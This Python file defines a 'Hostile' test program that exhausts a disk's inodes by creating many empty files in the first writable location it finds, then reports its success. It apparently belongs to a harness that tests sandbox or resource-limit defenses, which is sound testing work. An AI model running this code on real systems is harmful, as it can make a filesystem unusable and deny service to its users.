"""Uses up the disk's inodes with empty files."""

import contextlib
import os

from hostile import Hostile, writable_places


class Model(Hostile):
    def attack(self):
        for place in writable_places():
            with contextlib.suppress(OSError):
                self.fill(os.path.join(place, self.token))
                return

    def fill(self, folder):
        os.mkdir(folder)
        inside = os.open(folder, os.O_RDONLY)
        for number in range(self.files):
            os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=inside))
        self.tell("FILLED", os.fstat(inside).st_dev)
